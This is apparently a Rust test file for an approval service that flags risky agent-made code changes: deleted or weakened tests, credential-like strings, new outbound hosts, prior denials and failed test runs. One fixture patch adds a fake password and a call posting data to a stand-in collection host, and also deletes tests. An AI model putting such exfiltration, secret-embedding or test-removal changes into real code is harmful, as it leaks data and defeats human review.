//! What speaks against a change that waits, as the service computes it.

use rstest::rstest;
use serde_json::{Value, json};

use crate::harness::{Answer, Backend, Run, sha256};
use crate::runs::changesets::{Layer, head, runner, send};

const TEST: &str = "def test_a():\n    assert f() == 1\n    assert g()\n";
const CODE: &str = "URL = \"https://api.example.org/v1\"\nx = 1\n";

async fn run_that_asks(backend: Backend) -> Run {
    let files = [("tests/test_a.py", TEST), ("tests/test_b.py", TEST), ("src/a.py", CODE)];
    Run::shared_with(backend, &files, json!({"policy": {"ask": ["**"]}})).await.1
}

fn id_of(answer: &Answer) -> String {
    answer.refused("APPROVAL_REQUIRED")["approvalId"].as_str().unwrap().to_owned()
}

/// Returns the warnings of an approval, which are the same in the list.
async fn warnings(run: &Run, id: &str) -> Value {
    let alone = run.operator.get(&format!("/v1/approvals/{id}")).await.ok();
    let list = run.operator.get(&format!("/v1/approvals?run={}", run.id)).await.ok();
    let listed = list["items"].as_array().unwrap().iter().find(|one| one["approvalId"] == id).unwrap();
    assert_eq!((&alone["warnings"], listed.get("diff")), (&listed["warnings"], None));
    alone["warnings"].clone()
}

fn short(warnings: &Value) -> Vec<(String, String, Value, Value)> {
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let warnings = warnings.as_array().unwrap().iter();
    warnings.map(|one| (text(&one["code"]), text(&one["severity"]), one["path"].clone(), one["line"].clone())).collect()
}

#[rstest]
#[tokio::test]
async fn an_approval_says_what_its_files_and_lines_are_suspected_of(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let run = run_that_asks(backend).await;
    let patch = "--- a/src/a.py\n+++ b/src/a.py\n@@ -1,2 +1,4 @@\n URL = \"https://api.example.org/v1\"\n x = 1\n\
        +SMTP_PASSWORD = \"vT9q-Lw2x\"\n+post(\"https://collect.example.net/\", URL)\n\
        --- a/tests/test_a.py\n+++ b/tests/test_a.py\n@@ -1,3 +1,2 @@\n def test_a():\n-    assert f() == 1\n     assert g()\n\
        --- a/tests/test_b.py\n+++ /dev/null\n@@ -1,3 +0,0 @@\n-def test_a():\n-    assert f() == 1\n-    assert g()\n";
    let id = id_of(&run.patch(patch).await);
    let found = warnings(&run, &id).await;
    let of =
        |code: &str, severity: &str, path: &str, line: Value| (code.to_owned(), severity.to_owned(), json!(path), line);
    let expected = [
        of("DELETES_TEST", "danger", "tests/test_b.py", Value::Null),
        of("WEAKENS_TEST", "danger", "tests/test_a.py", Value::Null),
        of("CREDENTIAL_LIKE", "danger", "src/a.py", json!(3)),
        of("NEW_HOST", "doubt", "src/a.py", json!(4)),
    ];
    assert_eq!(short(&found), expected, "{found:#}");
    assert!(!found.to_string().contains("vT9q"), "{found:#}");
    // Whoever asked is told with the decision, and a harmless change has no warnings.
    run.operator.post(&format!("/v1/approvals/{id}/deny"), json!({"onBehalfOf": "ada", "note": "no"})).await.ok();
    let harmless = run.edit("src/a.py", "x = 1", "x = 2", json!({})).await;
    let notice = &harmless.refused("APPROVAL_REQUIRED")["notices"][0];
    let told = "(apply_patch) [DELETES_TEST, WEAKENS_TEST, CREDENTIAL_LIKE, NEW_HOST] \u{2014} \"no\"";
    assert!(notice.as_str().unwrap().ends_with(told), "{notice}");
    assert_eq!(warnings(&run, &id_of(&harmless)).await, json!([]));
}

#[rstest]
#[tokio::test]
async fn a_change_that_was_denied_before_names_the_denial(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let run = run_that_asks(backend).await;
    let denied = id_of(&run.edit("src/a.py", "x = 1", "x = 10", json!({})).await);
    let body = json!({"onBehalfOf": "ada", "note": "ten is too many"});
    run.operator.post(&format!("/v1/approvals/{denied}/deny"), body).await.ok();
    let again = json!({"path": "src/a.py", "content": format!("{CODE}y = 2\n").replace("x = 1", "x = 10"),
        "expectedSha256": sha256(CODE), "reason": "r"});
    let found = warnings(&run, &id_of(&run.call("write_file", again).await)).await;
    assert_eq!(short(&found), [("DENIED_BEFORE".to_owned(), "danger".to_owned(), Value::Null, Value::Null)]);
    assert_eq!((&found[0]["approvalId"], &found[0]["note"]), (&json!(denied), &json!("ten is too many")), "{found:#}");
    assert!(found[0]["text"].as_str().unwrap().contains("ada has denied"), "{found:#}");
    let other = id_of(&run.edit("src/a.py", "x = 1", "x = 3", json!({})).await);
    assert_eq!(warnings(&run, &other).await, json!([]));
}

#[rstest]
#[tokio::test]
async fn an_approval_says_whether_tests_ran_with_it_and_failed(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let run = run_that_asks(backend).await;
    let codes = |found: &Value| short(found).into_iter().map(|one| one.0).collect::<Vec<_>>();
    let before = id_of(&run.edit("src/a.py", "x = 1", "x = 2", json!({})).await);
    assert_eq!(codes(&warnings(&run, &before).await), [""; 0], "the run has no tests");
    let runner = runner(&run, &[]).await;
    let changed = async |command: &[&str], exit: i64, new: &str| {
        let set =
            json!({"basedOnSeq": head(&run).await, "reason": "r", "command": {"argv": command, "exitCode": exit}});
        let layer = Layer::new().file("src/a.py", CODE.replace("x = 1", new)).bytes();
        codes(&warnings(&run, &id_of(&send(&runner, &set, &layer).await)).await)
    };
    assert_eq!(changed(&["sed", "-i", "s/1/4/", "src/a.py"], 1, "x = 4").await, [""; 0]);
    assert_eq!(changed(&["python", "-m", "pytest"], 1, "x = 5").await, ["TESTS_FAILED"]);
    assert_eq!(changed(&["python", "-m", "pytest"], 0, "x = 6").await, [""; 0]);
    assert_eq!(changed(&["sed", "-i", "s/1/7/", "src/a.py"], 0, "x = 7").await, ["TESTS_NOT_ON_THIS_TREE"]);
    let after = id_of(&run.edit("src/a.py", "x = 1", "x = 8", json!({})).await);
    assert_eq!(codes(&warnings(&run, &after).await), ["TESTS_NOT_ON_THIS_TREE"]);
}
